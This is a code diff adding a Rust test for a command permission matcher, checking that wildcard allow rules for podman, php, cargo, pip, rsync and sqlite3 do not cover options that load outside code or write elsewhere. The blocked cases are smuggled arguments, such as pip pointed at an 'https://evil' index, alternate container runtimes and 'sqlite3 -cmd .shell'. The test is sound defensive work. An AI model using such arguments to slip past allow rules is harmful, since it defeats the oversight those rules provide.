@@ -244,6 +244,80 @@ fn a_star_stands_for_no_option_that_brings_code_or_writes_elsewhere() {
     ]);
 }
 
+#[test]
+fn a_star_stands_for_no_other_source_of_code() {
+    families(&[
+        (
+            "podman ps *",
+            &["podman ps -a", "podman ps --network x"],
+            &[
+                "podman ps --runtime x",
+                "podman ps --runtime=x",
+                "podman ps --conmon=x",
+                "podman ps --hooks-dir x",
+                "podman ps --module=x",
+                "podman ps --network-cmd-path=x",
+            ],
+        ),
+        ("podman run *", &["podman run --runtime x alpine", "podman run --network host alpine"], &[]),
+        (
+            "php -l *",
+            &["php -l a.php"],
+            &[
+                "php -l -S 127.0.0.1:99 x.php",
+                "php -l --server=x",
+                "php -l -c dir a.php",
+                "php -l -cdir a.php",
+                "php -l -z x.so a.php",
+                "php -l --zend-extension=x.so a.php",
+                "php -l --php-ini x a.php",
+            ],
+        ),
+        ("cargo clippy *", &["cargo clippy -- -D warnings"], &["cargo clippy -- @args", "cargo clippy -q -- @x=y"]),
+        (
+            "cargo rustc --release *",
+            &["cargo rustc --release -- --cap-lints=warn"],
+            &["cargo rustc --release -- @args"],
+        ),
+        (
+            "pip install -i https://good/simple *",
+            &["pip install -i https://good/simple left -q", "pip install -i https://good/simple left -r x"],
+            &[
+                "pip install -i https://good/simple --extra-index-url=https://evil",
+                "pip install -i https://good/simple --extra-index https://evil",
+                "pip install -i https://good/simple -f https://evil",
+                "pip install -i https://good/simple -qqqfhttps://evil",
+                "pip install -i https://good/simple --find-links=x",
+                "pip install -i https://good/simple --trusted-host evil",
+            ],
+        ),
+        ("pip install *", &["pip install left --extra-index-url https://x -f y"], &[]),
+        (
+            "rsync -a src/ dst/ *",
+            &["rsync -a src/ dst/ -v --partial --backup", "rsync -a src/ dst/ --exclude x"],
+            &[
+                "rsync -a src/ dst/ --write-devices",
+                "rsync -a src/ dst/ --temp-dir=x",
+                "rsync -a src/ dst/ -vTx",
+                "rsync -a src/ dst/ --backup-dir=/x --suffix=y",
+                "rsync -a src/ dst/ --password-file=x",
+                "rsync -a src/ dst/ --files-from=:x",
+                "rsync -a src/ dst/ --server",
+                "rsync -a src/ dst/ --partial-dir=x",
+                "rsync -a src/ dst/ --link-dest=x",
+                "rsync -a src/ dst/ --copy-dest=x",
+                "rsync -a src/ dst/ --compare-dest=x",
+                "rsync -a src/ dst/ --read-batch=x",
+            ],
+        ),
+        (
+            "sqlite3 a.db 'select 1' *",
+            &["sqlite3 a.db select␣1 -csv", "sqlite3 a.db select␣1 -column", "sqlite3 a.db select␣1 --csv -header"],
+            &["sqlite3 a.db select␣1 -cmd .shell", "sqlite3 a.db select␣1 -c x"],
+        ),
+    ]);
+}
+
 /// The job's shell opens such a file for it (`perl <(echo CODE)`).
 #[test]
 fn a_star_stands_for_no_open_file_as_a_script() {
